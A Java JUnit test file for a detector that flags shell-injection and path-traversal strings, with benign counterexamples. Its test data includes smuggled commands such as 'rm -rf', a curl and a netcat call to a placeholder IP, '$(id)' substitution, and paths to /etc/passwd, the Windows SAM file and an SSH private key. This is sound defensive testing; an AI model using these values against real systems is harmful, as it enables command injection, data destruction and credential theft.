package dev.vedette.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class InjectionShapeTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "report.pdf; rm -rf /tmp/x",
                "main && curl http://192.0.2.1/x",
                "main||whoami",
                "10.0.0.1 | nc 192.0.2.1 4444",
                "name$(id)",
                "file`id`.txt",
                "a;cat${IFS}b",
                "x${IFS}y",
                "photo.png;/bin/sh -c x",
            })
    void findsACommandBehindSomethingElse(String text) {
        assertThat(kindsIn(text)).containsExactly("injection.shell");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../srv/data.db",
                "..\\..\\..\\boot.ini",
                "%2e%2e%2f%2e%2e%2f%2e%2e%2fdata",
                "/var/www/../../etc/passwd",
                "C:\\Windows\\System32\\config\\SAM",
                "/home/app/.ssh/id_ed25519",
                "readme.txt\0.png",
            })
    void findsAWayOutOfAFolder(String text) {
        assertThat(kindsIn(text)).containsExactly("injection.path");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "cd build && ls -l | sh",
                "ls; cat notes.txt",
                "SELECT 1; SELECT 2",
                "Tom & Jerry; cats and dogs",
                "| id | name | cat |",
                "use `curl` or `wget`",
                "$(document).ready(go)",
                "for (i = 0; i < n; i++) { f(i); }",
                "price: $(12)",
                "a; echo-server, b; sleep=5",
                "../sibling/../file.txt",
                "../../src/Main.java",
                "etc/passwords.md",
            })
    void leavesWhatPeopleWrite(String text) {
        assertThat(kindsIn(text)).isEmpty();
    }

    @Test
    void looksIntoShortArgumentsAlone() {
        String attack = "; rm -rf /";
        assertThat(kindsIn("x".repeat(InjectionShape.MAX_CHARACTERS - attack.length()) + attack))
                .hasSize(1);
        assertThat(kindsIn("x".repeat(InjectionShape.MAX_CHARACTERS) + attack)).isEmpty();
        Examination ofResult = new Examination(1_000, List.of(), false);
        ofResult.text(null, () -> "result", "x" + attack);
        assertThat(ofResult.findings().kinds()).isEmpty();
    }

    private static List<String> kindsIn(String text) {
        Examination examination = new Examination(10_000, List.of(), true);
        examination.text("path", () -> "arguments.path", text);
        return examination.findings().kinds();
    }
}
